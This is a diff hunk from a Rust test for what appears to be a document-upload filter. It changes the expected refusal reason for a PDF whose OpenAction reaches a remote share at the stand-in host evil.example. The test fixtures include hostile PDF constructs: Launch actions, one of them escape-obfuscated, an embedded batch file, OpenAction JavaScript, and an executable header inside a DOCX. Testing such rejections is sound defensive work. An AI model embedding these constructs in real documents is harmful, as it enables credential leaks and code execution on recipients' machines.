@@ -106,7 +106,7 @@ async fn what_is_refused_has_a_reason_and_leaves_nothing() {
         ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 an old document".to_vec(), Refusal::UnknownFormat),
         ("with-program.docx", with(docx(), b"MZ\x90\0\x03"), Refusal::Foreign { format: Format::Docx }),
         ("attached.pdf", pdf_with("/A<</EF<</F 9 0 R>>/UF(invoice.bat)>>"), Refusal::Active),
-        ("share.pdf", pdf_with("/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)>>"), Refusal::Active),
+        ("share.pdf", pdf_with("/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)>>"), Refusal::Share),
         ("launch.pdf", pdf_with("/A<</S/Launch >>"), Refusal::Active),
         ("escaped.pdf", pdf_with("/A<</S/L#61unch >>"), Refusal::Active),
         ("opened.pdf", pdf_with("/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), Refusal::Active),
